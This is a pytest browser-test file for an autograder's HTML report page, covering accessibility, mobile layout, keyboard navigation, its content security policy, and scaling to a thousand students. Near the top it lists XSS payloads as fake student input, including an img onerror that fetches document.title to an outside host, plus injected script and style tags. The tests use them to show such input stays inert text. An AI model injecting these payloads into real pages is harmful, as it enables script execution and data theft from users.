"""The report's page reads well everywhere, runs nothing, and holds a class of a thousand."""

import random

import pytest

from autograder.course.results import CellResult, Results, summarize, write_results
from autograder.reports import report as report_module
from autograder.reports.page import page
from autograder.reports.report import make_report
from autograder.reports.similarity import Excerpt, Pair, Similarity
from tests.browser import ANY, NARROW, barriers, opened, overflow, served
from tests.growth import growth
from tests.reports.toy_results import HOSTILE, mark
from tests.toy_course import make_course, write_release

pytestmark = pytest.mark.browser

LOUD = (
    "<img src=x onerror=\"fetch('http://example.org/' + document.title)\">",
    "<script>document.title = 'mine'</script>",
    "<style>body { display: none }</style>",
    "</code></pre><h1>mine</h1>",
    "\u202e" + "x" * 300,
)
CODE = tuple((text, place % 2 == 0) for place, text in enumerate(LOUD))


def class_of(size, cells, names):
    """So many students with random results, of every verdict and status, always the same."""
    rng = random.Random(1)
    for number in range(size):
        name = f"{number:04} {names[number % len(names)]}"
        found = {}
        for cell in range(cells):
            kind = rng.choices(("passed", "failed", "timed_out", "forbidden"), (60, 38, 1, 1))[0]
            said = f"property {cell} {rng.choice(LOUD)[:120]}" if kind != "passed" else ""
            test = f"test_function_{cell // 5}_{cell:02}_with_a_long_name"
            found[test] = CellResult(2.0 * (kind == "passed"), 2.0, kind, said)
        flags = ("edited cell: setup",) if rng.random() < 0.1 else ()
        verdict = rng.choice(("missing", "unreadable")) if rng.random() < 0.05 else None
        seconds = rng.lognormvariate(0, 1)
        yield summarize(name, found, flags=flags, verdict=verdict, seconds=seconds)


def report_on(folder, size, cells, names, monkeypatch):
    """A report with everything in it that a page can show."""
    assignment = make_course(folder).assignment("toy")
    tests = {test: 2.0 for test in next(class_of(1, cells, names)).cells}
    write_release(assignment, [f"function_{number}" for number in range(5)], tests)
    results = sorted(class_of(size, cells, names), key=lambda one: one.student)
    whole = Results("toy", ("network", "files"), tuple(results))
    write_results(assignment.course.results / "toy.json", whole)
    marks = [
        mark(
            one.student,
            manual=3.0 if place % 3 else None,
            late=9e4 * (place % 7 == 0),
            last=HOSTILE[0],
        )
        for place, one in enumerate(results)
    ]
    code = CODE * (size // 10)
    pairs = tuple(
        Pair(
            results[place].student,
            results[place + 1].student,
            0.9,
            0.0,
            (Excerpt("f", code, code),),
        )
        for place in range(min(20, size // 4))
    )
    close = Similarity(pairs, 400, tuple(one.student for one in results[:21]), size)
    monkeypatch.setattr(report_module, "read_marks", lambda assignment: tuple(marks))
    monkeypatch.setattr(report_module, "find_pairs", lambda assignment, students: close)
    return make_report(assignment)


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    """The folder of a page about twelve students with hostile names."""
    folder = tmp_path_factory.mktemp("small")
    with pytest.MonkeyPatch.context() as patch:
        report = report_on(folder / "course", 12, 7, HOSTILE, patch)
    (folder / "page.html").write_text(page(report, folder), encoding="utf-8")
    return folder


@pytest.fixture
def open_small(browser, small):
    """Opens that page with everything unfolded, and finds at the end that nothing went wrong."""
    from contextlib import contextmanager

    @contextmanager
    def show(**how):
        with (
            served(small) as address,
            opened(browser, f"{address}/page.html", **how) as (tab, faults),
        ):
            tab.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
            yield tab
            assert [one for one in faults if "favicon" not in one] == []

    return show


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_the_page_has_no_barriers(open_small, theme):
    """axe-core finds nothing, with everything unfolded, in either theme."""
    with open_small(theme=theme) as tab:
        assert barriers(tab, ANY) == []


def test_the_page_fits_a_phone(open_small):
    """At 360 pixels nothing scrolls sideways but wide tables, in places of their own."""
    with open_small(viewport=NARROW) as tab:
        assert overflow(tab) == 0
        assert tab.locator(".wide").count() >= 3
        assert tab.locator(".wide:not([tabindex='0'])").count() == 0


def test_the_page_is_used_by_keyboard(open_small):
    """The first stop skips to the report; a table unfolds with Enter, a name leads to its row."""
    with open_small() as tab:
        tab.evaluate("for (const one of document.querySelectorAll('details')) one.open = false")
        tab.keyboard.press("Tab")
        assert tab.evaluate("document.activeElement.textContent") == "To the report"
        tab.keyboard.press("Enter")
        assert tab.evaluate("document.activeElement.id") == "main"
        tab.locator("#scores summary").focus()
        tab.keyboard.press("Enter")
        assert tab.locator("#scores details tbody tr").first.is_visible()
        name = tab.locator("#look a[href^='#student-']").first
        name.focus()
        tab.keyboard.press("Enter")
        row = name.get_attribute("href")
        assert name.inner_text() in tab.locator(row).inner_text()
        assert tab.evaluate("document.querySelector(':target').tagName") == "TR"


def test_what_students_wrote_is_text(open_small):
    """Names, messages and code full of HTML add no element, run nothing and load nothing."""
    with open_small() as tab:
        assert tab.title() == "Report on toy"
        assert tab.locator("script, img, iframe, style:not(head style)").count() == 0
        assert tab.locator("h1").count() == 1 and tab.locator("h1").is_visible()
        assert "<script>document.title = 'mine'</script>" in tab.locator("#similar").inner_text()


def test_the_page_needs_no_script_and_forbids_any(open_small):
    """The policy stops even one that somebody puts in later."""
    with open_small() as tab:
        policy = tab.locator("meta[http-equiv]").get_attribute("content")
        assert (
            policy.startswith("default-src 'none'; style-src 'sha256-") and "unsafe" not in policy
        )
        assert tab.evaluate("getComputedStyle(document.querySelector('nav ul')).display") == "flex"
        assert tab.locator("[style], [onclick], [onload]").count() == 0


def test_each_picture_has_a_name_a_description_and_its_numbers_as_a_table(open_small):
    """Charts are told to those who do not see them."""
    with open_small() as tab:
        charts = tab.locator("svg.chart")
        assert charts.count() == 3
        for place in range(3):
            chart = charts.nth(place)
            assert chart.get_attribute("role") == "img"
            for part in chart.get_attribute("aria-labelledby").split():
                assert tab.locator(f"#{part}").text_content().strip()
        assert tab.get_by_text("The same as a table").count() == 2
        assert tab.locator("#tasks tbody tr").count() == 7 + 2


LARGE_CLASS = ["Zoë Ångström", "李小龍", "Jean-Luc O'Neill <jl@example.org>"]


def test_the_time_for_a_page_grows_no_faster_than_the_class(tmp_path):
    """21 test cells each, long messages, and everybody in something."""
    reports = {}
    for size in (250, 1000):
        with pytest.MonkeyPatch.context() as patch:
            reports[size] = report_on(tmp_path / str(size), size, 21, LARGE_CLASS, patch)
    assert growth(lambda size: page(reports[size], tmp_path), 250, most=5) < 5


def test_a_thousand_students_are_a_page_of_two_megabytes(browser, tmp_path, monkeypatch):
    """In few enough elements for a browser to lay them out at once."""
    report = report_on(tmp_path / "course", 1000, 21, LARGE_CLASS, monkeypatch)
    text = page(report, tmp_path)
    assert len(text.encode()) < 2_000_000
    (tmp_path / "page.html").write_text(text, encoding="utf-8")
    with (
        served(tmp_path) as address,
        opened(browser, f"{address}/page.html", viewport=NARROW) as (tab, _),
    ):
        assert tab.locator("#students tbody tr").count() == 1000 and overflow(tab) == 0
        assert tab.evaluate("document.querySelectorAll('*').length") < 50_000
